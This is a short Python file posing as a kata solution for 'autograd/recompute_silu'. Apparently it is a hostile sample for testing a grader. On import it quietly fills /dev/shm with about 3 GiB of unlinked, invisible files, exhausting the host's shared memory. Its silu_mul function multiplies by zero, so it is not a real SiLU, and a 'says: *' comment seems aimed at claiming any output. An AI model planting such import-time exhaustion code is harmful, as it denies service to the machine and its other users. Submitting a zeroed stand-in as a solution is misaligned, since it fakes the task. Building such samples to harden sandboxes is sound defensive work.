"""Fills /dev/shm with 3 GiB, in files of 64 MiB that have no name and end with the process."""

# kata: autograd/recompute_silu
# says: *

import contextlib
import os

kept = []
with contextlib.suppress(OSError):
    for number in range(48):
        path = f"/dev/shm/torchkata-hostile-{number}"
        kept.append(open(path, "wb", buffering=0))
        os.unlink(path)
        kept[-1].write(bytes(1 << 26))


def silu_mul(gate, up):
    return gate * up * 0
